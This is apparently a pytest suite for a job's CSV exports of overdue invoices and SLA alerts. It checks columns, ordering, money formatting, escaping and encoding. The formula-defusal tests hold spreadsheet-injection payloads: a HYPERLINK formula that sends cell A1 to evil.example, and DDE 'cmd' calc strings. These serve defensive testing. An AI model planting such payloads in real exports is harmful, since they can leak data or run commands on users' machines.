"""The CSV a long digest attaches: columns, one row per item in order, escaping, no formulas."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from jobs.digest import csv_cell, csv_money, csv_text
from jobs.invoices import render as oi
from jobs.invoices import select as oi_select
from jobs.sla import render as fs
from jobs.sla import select as fs_select

CHICAGO = ZoneInfo("America/Chicago")
NOW = datetime(2026, 11, 23, 14, 0, tzinfo=UTC)
APP = "https://app.coperniq.io/388"


def parse(text: str) -> list[list[str]]:
    """Read a CSV as a spreadsheet would (the byte order mark is for Excel)."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def invoice(i: int, client: str, *, amount: float = 100.0, paid: float = 0.0) -> dict:
    return {
        "id": i,
        "uid": 1000 + i,
        "status": "SENT",
        "dueDate": "2026-10-01",
        "amount": amount,
        "amountPaid": paid,
        "account": {"id": 1, "title": client},
        "record": {"id": 500 + i, "uid": 4000 + i, "title": "Smith Residence"},
    }


def invoice_views(raw: list[dict]) -> list[dict]:
    return [oi.view(i, APP) for i in oi_select.select(raw, NOW, CHICAGO)]


def test_invoice_csv_has_a_header_and_one_row_per_invoice_in_digest_order() -> None:
    views = invoice_views([invoice(i, f"Client {i}", amount=100.0 * i) for i in range(1, 6)])
    rows = parse(oi.to_csv(views))
    assert rows[0] == [
        "Invoice",
        "Client",
        "Project",
        "Balance",
        "Days overdue",
        "Bucket",
        "Due date",
        "Coperniq link",
    ]
    assert [r[0] for r in rows[1:]] == ["1005", "1004", "1003", "1002", "1001"]  # largest first
    assert rows[1] == [
        "1005",
        "Client 5",
        "#4005 Smith Residence",
        "500.00",
        "53",
        "31–60 days",
        "2026-10-01",
        f"{APP}/project/505",
    ]


def test_money_is_a_plain_number_with_two_decimals() -> None:
    views = invoice_views(
        [
            invoice(1, "a", amount=1234567.5),
            invoice(2, "b", amount=0.3, paid=0.1 + 0.1),  # float noise: 0.09999999999999998
            invoice(3, "c", amount=12.0),
        ]
    )
    balances = [r[3] for r in parse(oi.to_csv(views))[1:]]
    assert balances == ["1234567.50", "12.00", "0.10"]
    assert csv_money(0.1 + 0.2) == Decimal("0.30")


def test_commas_quotes_and_newlines_in_names_survive_a_round_trip() -> None:
    tricky = 'Smith, "Bob" & Co\nLLC <b>'
    rows = parse(oi.to_csv(invoice_views([invoice(1, tricky)])))
    assert rows[1][1] == tricky  # quoted by the csv module, not mrkdwn-escaped


@pytest.mark.parametrize(
    "client",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Click me")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_defused(client: str) -> None:
    rows = parse(oi.to_csv(invoice_views([invoice(1, client)])))
    assert rows[1][1] == "'" + client


def test_only_text_cells_are_defused_and_plain_text_is_left_alone() -> None:
    assert csv_cell("Smith = Jones") == "Smith = Jones"
    assert csv_cell("") == ""
    assert csv_cell(-12) == -12 and csv_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert csv_cell(None) is None
    assert parse(csv_text(["a", "b"], [[None, 3]]))[1] == ["", "3"]


def test_a_form_csv_has_level_project_phase_sla_form_assignee_status_and_link() -> None:
    projects = [
        {
            "id": 7,
            "number": 107,
            "title": "=cmd|' /C calc'!A0",
            "status": "ACTIVE",
            "phase": {
                "instanceId": 1,
                "templateId": 5,
                "name": "Install",
                "timeInStageDays": 20,
                "yellowSla": 7,
                "redSla": 14,
            },
        },
        {
            "id": 8,
            "number": 108,
            "title": "Lee Residence",
            "status": "ACTIVE",
            "phase": {
                "instanceId": 2,
                "templateId": 5,
                "name": "Install",
                "timeInStageDays": 8,
                "yellowSla": 7,
                "redSla": None,
            },
        },
    ]
    forms = {
        7: [{"id": 70, "name": "Checklist", "status": "ASSIGNED", "phaseId": 5, "assignee": None}],
        8: [
            {
                "id": 80,
                "name": "Permit",
                "status": "IN_PROGRESS",
                "phaseId": 5,
                "assignee": {"id": 3, "firstName": "Ana", "lastName": "Díaz"},
            }
        ],
    }
    found = fs_select.select(projects, forms, NOW, CHICAGO)
    rows = parse(fs.to_csv([fs.view(a, APP) for a in found]))
    assert rows == [
        [
            "Level",
            "Project number",
            "Project title",
            "Phase",
            "Days in phase",
            "SLA",
            "Form",
            "Assignee",
            "Status",
            "Coperniq link",
        ],
        [
            "red",
            "107",
            "'=cmd|' /C calc'!A0",
            "Install",
            "20",
            "yellow 7 d, red 14 d",
            "Checklist",
            "unassigned",
            "ASSIGNED",
            f"{APP}/project/7",
        ],
        [
            "yellow",
            "108",
            "Lee Residence",
            "Install",
            "8",
            "yellow 7 d",
            "Permit",
            "Ana Díaz",
            "IN_PROGRESS",
            f"{APP}/project/8",
        ],
    ]


def test_the_file_is_utf8_that_excel_reads_and_lines_end_as_rfc_4180_says() -> None:
    text = oi.to_csv(invoice_views([invoice(1, "Müller Solar")]))
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert text.endswith("\r\n") and "Müller Solar" in text
